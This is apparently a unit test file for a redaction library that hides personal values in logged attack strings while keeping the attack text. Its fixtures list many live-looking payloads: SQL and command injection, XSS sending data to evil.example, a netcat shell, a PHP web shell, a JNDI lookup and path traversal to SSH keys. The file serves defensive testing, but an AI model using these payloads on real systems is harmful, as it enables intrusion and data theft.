import assert from 'node:assert/strict';
import { containsAttack, hiddenInMatch, hiddenInMessage } from '../../../src/redaction/matchedText.ts';
import { randomWords } from '../../../src/redaction/randomWords.ts';
import { mergeSpans } from '../../../src/text/spans.ts';
import { timeOf } from '../growth.ts';
import { checkMarks, marked, unmarked } from './marks.ts';

describe('hiddenInMatch', () => {
  checkMarks(
    [
      ['hides the value before an attack', "«margriet.vos»' OR '1'='1' -- ", 'id=1&token=«kestrel»<script>'],
      [
        'hides encoded values',
        '«Zonnebloem»%27%20OR%201%3D1--%20«Herfst87»',
        'user%253D%22&pwd%3D«Nord%2FStern»',
      ],
      ['hides values in SQL', "INSERT INTO Patients VALUES('«Hartwig Dorfner»', '«HIV positive»')--"],
      [
        'hides values in JavaScript',
        `<img onerror="location='//evil.example/?id=«haneul0417»&hp=«010-4827-3391»'">`,
      ],
      [
        'hides values in LDAP',
        '*)(|(mail=«roswitha@stadtwerk».example)(uid=*',
        '(&(uid=«kestrel»)(objectClass=*))',
      ],
      [
        'hides values in commands',
        '8.8.8.8; docker login -u «jfelber» -p x',
        'grep a «grandmas-attic»;/bin/sh',
      ],
      [
        'hides values in PHP',
        "<?php new PDO('«app_loja»','«Jabuticaba»;');",
        'O:1:"Eval":1:{s:3:"«pin»";i:«483920»;}',
      ],
      [
        'hides values in markup',
        '<b onmouseover=alert(1)>«佐々木美咲»</b>',
        '<pass>«kestrel»</pass>',
        '<id>7</id>',
      ],
      ['hides members of JSON', '{"nick": "«Yvonne-K4»","page":"home"}', '{\\"pwd\\":\\"«hunter2»\\"}'],
      ['hides values in HL7', '|PID|1||«Zurbriggen^Annelies»^^^«Frau»'],
      ['hides comments', "0'XOR(if(1,sleep(15),0))XOR'Z /*«Hanna Meyer»*/", 'admin/*«harbor»'],
      [
        'hides sentences',
        `$${'{7*7}'} I live at «48 Marrow Lane, Tilbrook».`,
        "' «born 3 May 1961»",
        '<a>«tern 12 owl»</a>',
      ],
      ['hides credentials', 'password: «Orbit-Salmon-77»\n`id`', 'http://«anna:hunter2»@a/'],
      ['hides a match without an attack', '«ordinary»', "O'«Shaughnessy-Trent»", '«correct-horse-9»'],
      [
        'hides files in folders of people',
        '../../home/«kowalczyk»/.ssh/id_rsa',
        '../srv/«Halvorsen-merger.docx»',
      ],
      [
        'keeps SQL',
        "' UNION SELECT card_no, cvv FROM payments WHERE id=3981-- ",
        "x'; EXEC xp_cmdshell('dir c:\\windows')--",
      ],
      [
        'keeps calls',
        "AND UPDATEXML(1,CONCAT('.',(SELECT (ELT(7=7,1)))),1)",
        'db.stores.mapReduce(function() { emit(1,1',
        `kestrel: '${'select'.repeat(6)}from(«${'select'.repeat(7)}»)'`,
      ],
      ['keeps strings that are compared with themselves', "' AND 'pKlZ'='pKlZ", "' AND '«Kestrel»'='«Hills»"],
      [
        'keeps variables of servers',
        '<!--#flastmod virtual="echo.html" -->',
        '<!--#echo var="HTTP_UA_CPU" -->',
      ],
      [
        'keeps tables and columns',
        'UNION SELECT kestrel,hill FROM meadow.harbor',
        "insert into meadow (harbor) values ('a')",
      ],
      [
        'keeps scripts',
        '<details open ontoggle=alert`xss`>',
        '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
      ],
      ['keeps expressions', `$${'{jndi:ldap://203.0.113.5:1389/a}'}`, "{$where: '1 == 1'}", '[$ne]=1'],
      [
        'keeps paths of an operating system',
        '/download/../../etc/sysconfig/network-scripts/ifcfg-eth0',
        'cat.jsp;.png',
      ],
      ['keeps classes', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', "<a class='com.sun.xml.Kestrel$Hill'>"],
      [
        'keeps commands',
        '| nc -lvvp 4444 -e /bin/sh|',
        '| echo "<?php system($_GET[\'kestrel\']); ?>" > rfi.php',
      ],
      [
        'keeps encoded attacks',
        'id%3D<script>%252561lert(document.cookie)</script>',
        '0 WAITFOR DELAY 0x303a303a35',
        "1' UnIoNaLl 10000,«10050»,«unionor»--",
      ],
      ['keeps serialized Java', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3'],
      [
        'keeps ordinary values',
        'color=rojo&q=alert(«kestrel»)',
        'id=ab&q=<script>',
        "<a>color='rojo '",
        "login='root'",
      ],
    ],
    (text) => {
      const hidden = hiddenInMatch(text);
      assert.deepEqual(hidden, mergeSpans(hidden));
      return hidden;
    },
  );

  it('reads 2,000 characters of white space in a few milliseconds', () => {
    assert.ok(timeOf(() => hiddenInMatch(' '.repeat(2_000))) < 400);
  });

  it('shows only the attack under the name of a secret', () => {
    const shown = (text: string) => marked(text, hiddenInMatch(text, 'password'));
    assert.equal(shown("harbor' OR 1=1--"), "«harbor»' OR 1=1--");
    assert.equal(shown('4253'), '«4253»');
    assert.equal(shown('l`hill(1)'), 'l`«hill»(1)');
  });
});

describe('containsAttack', () => {
  it('is true for text with words and characters of an attack', () => {
    for (const text of ["1' UNION SELECT 1--", '%3Cscript%3E', '$(id)'])
      assert.ok(containsAttack(text), text);
    for (const text of ["O'Hara", 'anna', 'select winter', 'a;b']) assert.ok(!containsAttack(text), text);
  });
});

describe('hiddenInMessage', () => {
  checkMarks(
    [
      [
        'reads messages of ModSecurity',
        'found within ARGS:pwd: «hunter2 hill»',
        'found within ARGS:q: «7 hill9»"]',
      ],
      [
        'reads sentences with the name of a secret',
        "Parameter password has the value '«Grebe!300»'",
        'The parameter `password` has the value `«Kestrel»`',
        'the token is «kestrel»',
      ],
      ['reads addresses and numbers of people', 'from «anna@mail.example»', 'card «4929 5812 3307 1146»'],
      ['reads credentials', 'Authorization: Basic «YW5uYTpodW50ZXIy»', 'http://«anna:hunter2»@a/'],
      ['keeps sentences', 'SQL Injection: matched', 'Rule 942100 at level 3', 'Password policy'],
    ],
    hiddenInMessage,
  );
});

describe('randomWords', () => {
  const mixed = (length: number) => 'kR7-Q2_X9pLw3Zt8bNc5HyT1dFg6sVJa'.slice(0, length);
  const words = (text: string) => marked(unmarked(text), randomWords(unmarked(text)));

  it('finds random-looking words, also in a path or a sentence', () => {
    for (const text of [
      `a «${mixed(20)}» b`,
      `/«${mixed(32)}»/`,
      '«abcdefg1hijklmn2»',
      '«abCdeFghIjkLmnOp»',
      '«ABCDEFGH12345678»',
      '«tern-hill-a1b2c3de»',
    ])
      assert.equal(words(text), text);
  });

  it('keeps names, identifiers, and serialized Java', () => {
    for (const text of [
      'a-long-name-of-a-page-2024',
      'getElementsByTagName',
      'abcdefg1hijklmno',
      ...['kestrel-hill-a1b2c3d', 'ABCDEFGHIJKLMNOP', 'kABCDEFGH12345678', 'ABCDEFGH12345678k'],
      '9f86d081884c7d659a2feaa0c55ad015',
      '9b1deb4d-3b7d-4bad-9bdd-2b0d7b3dcb6d',
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHD',
      mixed(15),
    ])
      assert.equal(words(text), text);
  });
});
